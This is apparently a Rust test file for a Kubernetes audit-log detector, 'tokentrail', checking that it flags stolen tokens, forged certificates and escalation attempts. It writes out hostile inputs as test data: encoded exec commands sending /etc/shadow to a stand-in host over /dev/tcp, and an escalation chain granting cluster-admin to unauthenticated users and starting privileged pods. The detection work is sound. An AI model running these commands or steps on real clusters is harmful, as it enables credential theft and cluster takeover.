//! Ways around the engine that were open once.

#[expect(dead_code, reason = "the tests share more than each of them uses")]
mod common;

use common::{DAY, HOUR, MINUTE, Request, SECOND, alarms, feed, last, run};
use serde_json::{Value, json};
use tokentrail::detect::{Policy, Severity};
use tokentrail::engine::{Engine, Output};

fn stock() -> Request {
    Request::of_pod("shelf:stock", "pod-1", "10.251.0.9")
}

fn with_habits(acts: Vec<(i64, Request)>) -> Output {
    let mut lines: Vec<String> = (0..8)
        .flat_map(|d| (0..6).map(move |n| stock().line(d * DAY + n * SECOND)))
        .collect();
    for pod in 2..6 {
        let neighbour = Request::of_pod(
            "shelf:bell",
            &format!("pod-{pod}"),
            &format!("10.251.0.{}", 9 + pod),
        );
        lines.push(neighbour.line(7 * DAY + pod * 60 * SECOND));
    }
    lines.extend(acts.into_iter().map(|(at, request)| request.line(at)));
    run(&Policy::default(), lines.iter().map(String::as_str))
}

#[test]
fn to_be_refused_first_does_not_wash_what_is_allowed_the_day_after() {
    let list = stock().does("list", "secrets", "", "");
    let refused = Request {
        code: 403,
        ..list.clone()
    };
    assert_eq!(alarms(&with_habits(vec![(9 * DAY, list.clone())])).len(), 1);
    assert_eq!(
        alarms(&with_habits(vec![(8 * DAY, refused), (9 * DAY, list)])).len(),
        1
    );
}

#[test]
fn a_stolen_token_does_not_teach_where_it_lives() {
    let away = Request {
        ip: "192.0.2.9".into(),
        pod: "pod-9".into(),
        credential: "JTI=pod-9".into(),
        ..stock()
    };
    let out = with_habits(vec![(8 * DAY, away.clone()), (8 * DAY + SECOND, away)]);
    let told = out
        .findings
        .iter()
        .filter(|(d, _)| *d == "unknown-origin")
        .count();
    assert_eq!(told, 2, "the second request is as odd as the first");
}

#[test]
fn what_anybody_may_do_is_told() {
    let anonymous = Request {
        user: "system:anonymous".into(),
        ..Request::of_pod("x:y", "", "192.0.2.9")
    };
    let out = run(
        &Policy::default(),
        [anonymous
            .does("get", "secrets", "shelf", "ledger-key")
            .line(0)
            .as_str()],
    );
    assert_eq!(alarms(&out).len(), 1);
}

#[test]
fn a_certificate_of_the_control_plane_in_a_pod_is_told() {
    let manager = Request {
        user: "system:kube-controller-manager".into(),
        uid: "",
        credential: "X509SHA256=01".into(),
        agent: "kube-controller-manager/v1.36.2".into(),
        ..Request::of_pod("x:y", "", "10.250.0.2")
    };
    let stolen = Request {
        agent: "kubectl/v1.36.2".into(),
        ip: "10.251.0.9".into(),
        ..manager.clone()
    };
    let told = |after: &Request| {
        let lines = [
            manager.line(0),
            after.clone().does("list", "secrets", "", "").line(SECOND),
        ];
        let out = run(&Policy::default(), lines.iter().map(String::as_str));
        out.findings
            .iter()
            .filter(|(d, _)| *d == "dangerous-request")
            .count()
    };
    assert_eq!((told(&stolen), told(&manager)), (1, 0));
}

#[test]
fn a_straggler_of_a_deleted_account_does_not_wash_its_successor() {
    let (mut engine, mut out) = (Engine::new(Policy::default()), Output::default());
    let new = Request {
        uid: "5a1e0000-0000-4000-8000-000000000002",
        ..stock()
    };
    for (n, request) in [stock(), new.clone(), new.clone(), stock(), new]
        .iter()
        .enumerate()
    {
        feed(&mut engine, 0, &request.line(n as i64 * SECOND), &mut out);
    }
    let account = engine
        .population()
        .get("system:serviceaccount:shelf:stock")
        .expect("known");
    assert_eq!(
        (account.events, account.uid.to_string().ends_with('2')),
        (3, true)
    );
}

#[test]
fn a_copied_token_past_its_time_is_told_though_its_pod_is_known() {
    let stale = |at| {
        let line = stock().line(at);
        line.replace(
            r#""annotations":{"#,
            r#""annotations":{"authentication.k8s.io/stale-token":"subject: x","#,
        )
    };
    let mut lines: Vec<String> = (0..8)
        .flat_map(|d| (0..6).map(move |n| stock().line(d * DAY + n * SECOND)))
        .collect();
    lines.push(stale(8 * DAY));
    lines.push(stale(8 * DAY + SECOND));
    let out = run(&Policy::default(), lines.iter().map(String::as_str));
    let told = out
        .findings
        .iter()
        .filter(|(d, _)| *d == "legacy-token")
        .count();
    assert_eq!(told, 1, "and it is told once");
}

/// A rule of the audit policy may omit the start of some execs only.
#[test]
fn an_exec_without_a_start_is_judged_though_others_have_one() {
    let enter = |namespace: &str, stage| Request {
        stage,
        ..stock().does("create", "pods/exec", namespace, "till-0")
    };
    let [begun, over] = ["ResponseStarted", "ResponseComplete"];
    let seen = |acts: Vec<Request>| {
        let acts = acts
            .into_iter()
            .enumerate()
            .map(|(n, act)| (8 * DAY + n as i64 * SECOND, act))
            .collect();
        with_habits(acts)
            .findings
            .iter()
            .filter(|(d, _)| *d == "sensitive-operation")
            .count()
    };
    let told_of_one = seen(vec![enter("dev", begun)]);
    assert!(told_of_one > 0);
    assert!(seen(vec![enter("dev", begun), enter("prod", over)]) > told_of_one);
}

fn user(name: &str) -> Request {
    let (user, credential) = (name.to_owned(), "X509SHA256=ab".to_owned());
    Request {
        user,
        credential,
        uid: "",
        agent: "curl/8".into(),
        ..Request::of_pod("x:y", "", "10.251.7.7")
    }
}

/// The line of a request, changed by hand.
fn edited(request: &Request, at: i64, change: impl FnOnce(&mut Value)) -> String {
    let mut event: Value = serde_json::from_str(&request.line(at)).unwrap();
    change(&mut event);
    event.to_string()
}

fn with_body(request: &Request, at: i64, group: &str, body: Value) -> String {
    edited(request, at, |event| {
        event["level"] = json!("Request");
        event["objectRef"]["apiGroup"] = json!(group);
        event["requestObject"] = body;
    })
}

fn exec(who: &Request, at: i64, query: &str) -> String {
    edited(
        &who.clone().does("create", "pods/exec", "vault", "vault-0"),
        at,
        |event| {
            event["stage"] = json!("ResponseStarted");
            event["requestURI"] = json!(format!(
                "/api/v1/namespaces/vault/pods/vault-0/exec?{query}"
            ));
        },
    )
}

/// All that was found, as `detector: title`.
fn found(lines: &[String]) -> Vec<(Severity, String)> {
    let out = run(&Policy::default(), lines.iter().map(String::as_str));
    let incidents = last(&out);
    let all = incidents.values().flat_map(|i| &i.findings);
    all.map(|f| {
        (
            f.severity,
            format!("{}: {}; {}", f.detector, f.title, f.observed),
        )
    })
    .collect()
}

/// The severity of the gravest incident that one line makes.
fn worst_of(line: &str) -> Option<Severity> {
    last(&run(&Policy::default(), [line]))
        .values()
        .map(|incident| incident.severity)
        .max()
}

/// The steps from an administrator's certificate to everything.
fn takes_over(who: &Request) -> Vec<(&'static str, String)> {
    let at = |n: i64| n * SECOND;
    let rbac = "rbac.authorization.k8s.io";
    let everybody = json!({"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "Group", "name": "system:unauthenticated"}]});
    let pod = json!({"spec": {"hostPID": true, "containers": [{"name": "x", "securityContext": {"privileged": true}}]}});
    let token = json!({"spec": {"expirationSeconds": 31_536_000}});
    let of = |verb: &str, resource: &str, namespace: &str| {
        who.clone().does(verb, resource, namespace, "x")
    };
    vec![
        (
            "Secrets listed",
            who.clone().does("list", "secrets", "", "").line(at(0)),
        ),
        (
            "reads a token or key file in a pod",
            exec(
                who,
                at(1),
                "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fx%2Ftoken",
            ),
        ),
        (
            "Role with all rights bound",
            with_body(
                &of("create", "clusterrolebindings", ""),
                at(2),
                rbac,
                everybody,
            ),
        ),
        (
            "starts a privileged container",
            with_body(
                &of("create", "deployments", "kube-system"),
                at(3),
                "apps",
                pod_of(pod),
            ),
        ),
        (
            "mints a token that lives for more than a day",
            with_body(
                &of("create", "serviceaccounts/token", "shelf"),
                at(4),
                "",
                token,
            ),
        ),
    ]
}

fn pod_of(pod: Value) -> Value {
    json!({"spec": {"template": pod}})
}

#[test]
fn a_name_of_the_system_excuses_nobody() {
    for name in [
        "system:admin",
        "system:evil",
        "system:kube-proxy",
        "system:kube-scheduler",
    ] {
        for (what, line) in takes_over(&user(name)) {
            let (worst, told) = (worst_of(&line), found(&[line]));
            assert!(worst >= Some(Severity::Low), "{name} {what}: {told:?}");
            assert!(
                told.iter().any(|(_, text)| text.contains(what)),
                "{name} {what}: {told:?}"
            );
        }
    }
}

#[test]
fn what_a_component_never_does_is_an_alarm_without_a_baseline() {
    for name in [
        "system:kube-controller-manager",
        "system:kube-scheduler",
        "system:apiserver",
    ] {
        for (what, line) in takes_over(&user(name)) {
            assert!(
                worst_of(&line) >= Some(Severity::Medium),
                "{name} {what}: {:?}",
                found(&[line])
            );
        }
    }
}

#[test]
fn a_component_of_the_control_plane_at_its_work_is_no_news() {
    let of = |role: &str, verb: &str, resource: &str, namespace: &str| {
        manager(role).does(verb, resource, namespace, "x")
    };
    let pod =
        json!({"spec": {"containers": [{"name": "x", "securityContext": {"privileged": true}}]}});
    let inside = Request {
        ip: "::1".into(),
        credential: String::new(),
        ..user("system:apiserver")
    };
    let lines = [
        of("/shared-informers", "list", "secrets", "").line(0),
        of("/tokens-controller", "update", "secrets", "shelf").line(SECOND),
        of("/namespace-controller", "list", "secrets", "shelf").line(SECOND),
        of("", "create", "tokenreviews", "").line(2 * SECOND),
        with_body(
            &of("/replicaset-controller", "create", "pods", "kube-system"),
            3 * SECOND,
            "",
            pod,
        ),
        of("/namespace-controller", "delete", "rolebindings", "shelf").line(4 * SECOND),
        of(
            "/kube-controller-manager",
            "create",
            "serviceaccounts/token",
            "kube-system",
        )
        .line(4 * SECOND),
        of("/tokens-controller", "get", "secrets", "shelf").line(4 * SECOND),
        with_body(
            &inside.clone().does("create", "apiservices", "", "v1.x"),
            5 * SECOND,
            "apiregistration.k8s.io",
            json!({}),
        ),
        with_body(
            &inside.does("create", "clusterrolebindings", "", "x"),
            6 * SECOND,
            "rbac.authorization.k8s.io",
            json!({}),
        ),
    ];
    assert_eq!(found(&lines), []);
}

/// One of its clients adds `role` to the user agent.
fn manager(role: &str) -> Request {
    let agent = format!("kube-controller-manager/v1.36.2 (linux/amd64) kubernetes/98b3519{role}");
    Request {
        agent,
        ..user("system:kube-controller-manager")
    }
}

/// At its own address, and nothing but its work in sum.
#[test]
fn what_none_of_its_roles_does_tells_of_a_certificate_in_other_hands() {
    let begun = manager("/kube-controller-manager");
    let is_told =
        |before: Option<&Request>, who: &Request, verb: &str, resource: &str, namespace: &str| {
            let mut lines: Vec<String> =
                before.map(|request| request.line(0)).into_iter().collect();
            let (name, least) = if verb == "list" {
                ("", Severity::Medium)
            } else {
                ("x", Severity::Low)
            };
            lines.push(
                who.clone()
                    .does(verb, resource, namespace, name)
                    .line(2 * HOUR),
            );
            of_detector(&lines, "sensitive-operation")
                .iter()
                .any(|s| *s >= least)
        };
    let with = |agent: &str| Request {
        agent: agent.into(),
        ..manager("")
    };
    let odd = [
        (
            with("kubectl/v1.36.2 (linux/amd64) kubernetes/98b3519"),
            "list",
            "secrets",
            "",
        ),
        (with("another/v1"), "list", "secrets", ""),
        (manager(""), "get", "secrets", "vault"),
        (manager("/shared-informers"), "get", "secrets", "vault"),
        (manager("/shared-informers"), "list", "secrets", "vault"),
        (manager("/metadata-informers"), "delete", "secrets", "vault"),
        (manager(""), "create", "pods", "vault"),
    ];
    for (who, verb, resource, namespace) in odd {
        assert!(
            is_told(Some(&begun), &who, verb, resource, namespace),
            "{} {verb} {resource}",
            who.agent
        );
    }
    let job = manager("/job-controller");
    assert!(
        !is_told(Some(&begun), &job, "create", "pods", "vault"),
        "it has no accounts for its controllers"
    );
    let mints = begun.clone().does(
        "create",
        "serviceaccounts/token",
        "kube-system",
        "job-controller",
    );
    assert!(
        is_told(Some(&mints), &job, "create", "pods", "vault"),
        "it has, and they make pods"
    );
}

#[test]
fn a_component_that_comes_from_outside_is_told() {
    let at_home = Request {
        agent: "kube-scheduler/v1.36.2".into(),
        ..user("system:kube-scheduler")
    }
    .does("list", "pods", "", "");
    let away = Request {
        ip: "192.0.2.9".into(),
        ..at_home.clone()
    };
    let mut lines: Vec<String> = (0..20).map(|n| at_home.line(n * MINUTE)).collect();
    lines.extend((2..6).map(|pod| {
        Request::of_pod(
            "shelf:bell",
            &format!("pod-{pod}"),
            &format!("10.251.0.{pod}"),
        )
        .line(pod)
    }));
    lines.push(away.line(30 * MINUTE));
    let told = found(&lines);
    assert!(
        told.iter()
            .any(|(s, text)| *s >= Severity::Medium && text.contains("unknown-origin")),
        "{told:?}"
    );
}

#[test]
fn whoever_sends_a_command_does_not_choose_what_is_hidden() {
    for query in [
        "command=sh&command=-c&command=eval+%22%240%22+%23secret&command=cat+%2Fetc%2Fshadow+%3E+%2Fdev%2Ftcp%2F192.0.2.1%2F9",
        "command=sh&command=-c&command=secret%3Dcat%2Fetc%2Fshadow%3Bcat+%2Fetc%2Fshadow+%3E%2Fdev%2Ftcp%2F192.0.2.1%2F9",
        "command=sh&command=--token&command=cat%3C%2Fetc%2Fshadow%3E%2Fdev%2Ftcp%2F192.0.2.1%2F9",
        "%63ommand=cat&command=%2Fetc%2Fshadow&c%6Fmmand=%2Fdev%2Ftcp%2F192.0.2.1%2F9",
    ] {
        let told = found(&[exec(&stock(), 0, query)]);
        let one = told
            .iter()
            .find(|(_, text)| text.starts_with("dangerous-request"))
            .map_or("", |(_, text)| text);
        assert!(
            one.contains("opens a shell to somewhere else"),
            "{query}: {told:?}"
        );
        assert!(
            one.contains("reads a token or key file"),
            "{query}: {told:?}"
        );
    }
}

#[test]
fn padding_of_a_body_is_told_and_hides_nothing() {
    let args: Vec<&str> = vec!["a"; 60_000];
    let pod = json!({"spec": {"containers": [{"name": "a", "args": args}, {"name": "b", "securityContext": {"privileged": true}}]}});
    let told = found(&[with_body(
        &stock().does("create", "pods", "shelf", "x"),
        0,
        "",
        pod,
    )]);
    let unread = told
        .iter()
        .find(|(_, text)| text.contains("a body that cannot be looked at whole"));
    assert!(
        unread.is_some_and(|(severity, _)| *severity >= Severity::Low),
        "{told:?}"
    );
}

#[test]
fn what_answers_for_an_api_and_where_kubelets_are_is_reported() {
    for (group, resource, what, least) in [
        (
            "apiregistration.k8s.io",
            "apiservices",
            "APIService written",
            Severity::Low,
        ),
        (
            "apiextensions.k8s.io",
            "customresourcedefinitions",
            "Custom kind written",
            Severity::Info,
        ),
        ("", "nodes", "Node changed", Severity::Info),
        ("", "nodes/status", "Node changed", Severity::Info),
    ] {
        let mut lines: Vec<String> = (0..8)
            .flat_map(|d| (0..6).map(move |n| stock().line(d * DAY + n * SECOND)))
            .collect();
        lines.push(with_body(
            &stock().does("patch", resource, "", "x"),
            8 * DAY,
            group,
            json!({}),
        ));
        let told = found(&lines);
        assert!(
            told.iter()
                .any(|(s, text)| *s >= least && text.contains(what)),
            "{resource}: {told:?}"
        );
    }
    let kubelet =
        Request::of_node("node-a", "10.251.0.1").does("patch", "nodes/status", "", "node-a");
    assert_eq!(found(&[kubelet.line(0)]), []);
}

/// Pods with addresses of their own, so that addresses tell: before anything else happens.
fn neighbours() -> Vec<String> {
    (2..7)
        .chain(20..24)
        .map(|n| {
            Request::of_pod("shelf:bell", &format!("pod-{n}"), &format!("10.251.0.{n}"))
                .line(n * SECOND)
        })
        .collect()
}

fn of_detector(lines: &[String], detector: &str) -> Vec<Severity> {
    found(lines)
        .into_iter()
        .filter(|(_, text)| text.starts_with(detector))
        .map(|(severity, _)| severity)
        .collect()
}

#[test]
fn a_kubelet_in_two_places_is_told_and_one_that_moves_is_not() {
    let at = |ip: &str, minute: i64| Request::of_node("node-a", ip).line(minute * MINUTE);
    let home = || {
        neighbours()
            .into_iter()
            .chain((0..30).map(|n| at("10.251.7.1", n)))
    };
    let twice = |other: &str| {
        let turns = (30..36).map(|n| at(if n % 2 == 0 { other } else { "10.251.7.1" }, n));
        of_detector(
            &home().chain(turns).collect::<Vec<_>>(),
            "credential-in-two-places",
        )
    };
    assert_eq!(twice("10.251.7.2"), [Severity::Medium]);
    assert_eq!(twice("192.0.2.9"), [Severity::High]);
    assert_eq!(twice("10.251.0.3"), [Severity::High], "a pod's address");
    assert_eq!(twice("fd00::1"), [], "of both families");
    let moved = home()
        .chain((30..60).map(|n| at("10.251.7.2", n)))
        .collect::<Vec<_>>();
    assert_eq!(of_detector(&moved, "credential-in-two-places"), []);
}

#[test]
fn a_stolen_kubelet_credential_teaches_no_address() {
    let thief = "10.251.7.66";
    let kubelet = |ip: &str, minute: i64| Request::of_node("node-a", ip).line(minute * MINUTE);
    let pod = |ip: &str, minute: i64| stock_at(ip).line(minute * MINUTE);
    let mut lines = neighbours();
    lines.extend((0..30).flat_map(|n| [kubelet("10.251.7.1", n), pod("10.251.0.9", n)]));
    lines.extend([kubelet(thief, 30), pod(thief, 30)]);
    assert_eq!(
        of_detector(&lines, "credential-in-two-places").len(),
        1,
        "the pod's token is not at its own node"
    );
}

fn stock_at(ip: &str) -> Request {
    Request {
        ip: ip.into(),
        ..stock()
    }
}

#[test]
fn a_token_bound_to_a_node_is_odd_at_another() {
    let mut lines = neighbours();
    for (n, node) in ["node-a", "node-b"].iter().enumerate() {
        lines.extend(
            (0..30).map(|h| Request::of_node(node, &format!("10.251.7.{}", n + 1)).line(h * HOUR)),
        );
    }
    let bound = |ip: &str, at| {
        edited(
            &Request {
                pod: String::new(),
                ..stock_at(ip)
            },
            at,
            |event| {
                event["user"]["extra"]["authentication.kubernetes.io/node-name"] =
                    json!(["node-a"]);
            },
        )
    };
    lines.extend([
        bound("10.251.7.1", 30 * HOUR),
        bound("10.251.7.2", 31 * HOUR),
    ]);
    assert_eq!(
        of_detector(&lines, "credential-in-two-places"),
        [Severity::Medium]
    );
}

#[test]
fn a_client_certificate_for_a_service_account_is_an_alarm() {
    let forged = Request {
        pod: String::new(),
        uid: "",
        credential: "X509SHA256=8482".into(),
        ..stock()
    };
    assert_eq!(
        of_detector(&[forged.line(0)], "minted-credential"),
        [Severity::Medium]
    );
    let loud = alarms(&with_habits(vec![(8 * DAY, forged)]));
    assert!(loud.len() == 1 && loud[0].starts_with("high"), "{loud:?}");
}

#[test]
fn mints_upon_mints_do_not_hide_who_minted() {
    let bot = Request {
        agent: "bot/v1".into(),
        ..Request::of_pod("ci:bot", "pod-b", "10.251.0.20")
    };
    let mint = |n: i64| {
        edited(
            &bot.clone()
                .does("create", "serviceaccounts/token", "shelf", "stock"),
            8 * DAY + n,
            |event| {
                event["annotations"]["authentication.kubernetes.io/issued-credential-id"] =
                    json!(format!("JTI=minted-{n}"));
            },
        )
    };
    for mints in [1, 17, 100] {
        let mut lines: Vec<String> = (0..8)
            .flat_map(|d| (0..6).map(move |n| stock().line(d * DAY + n * SECOND)))
            .collect();
        lines.extend((0..mints).map(mint));
        let used = Request {
            pod: String::new(),
            credential: "JTI=minted-0".into(),
            ..stock()
        };
        lines.extend([used.line(8 * DAY + MINUTE), used.line(8 * DAY + 2 * MINUTE)]);
        let told = found(&lines);
        let minted: Vec<_> = told
            .iter()
            .filter(|(_, text)| text.starts_with("minted-credential"))
            .collect();
        let is_right = |(severity, text): &&(Severity, String)| {
            *severity >= Severity::Medium && text.contains("minted by")
        };
        assert!(minted.iter().all(is_right), "{mints}: {told:?}");
        assert_eq!(minted.len(), 1, "{mints}: {told:?}");
    }
}

#[test]
fn a_network_of_addresses_is_one_caller_without_a_user() {
    let burst = |ip: &dyn Fn(i64) -> String| {
        let lines: Vec<String> = (0..40)
            .map(|n| {
                Request::of_nobody(&ip(n))
                    .does("get", "secrets", &format!("shelf-{}", n % 4), "x")
                    .line(n * SECOND)
            })
            .collect();
        of_detector(&lines, "unauthenticated-burst").len()
    };
    assert_ne!(burst(&|n| format!("2001:db8::{:x}", n + 1)), 0);
    assert_ne!(burst(&|n| format!("192.0.2.{}", n + 1)), 0);
    assert_eq!(
        burst(&|n| format!("2001:db8:0:{n:x}::1")),
        0,
        "so many networks are as many callers"
    );
    assert_eq!(
        burst(&|n| format!("10.251.0.{}", n + 1)),
        0,
        "as are addresses inside"
    );
}
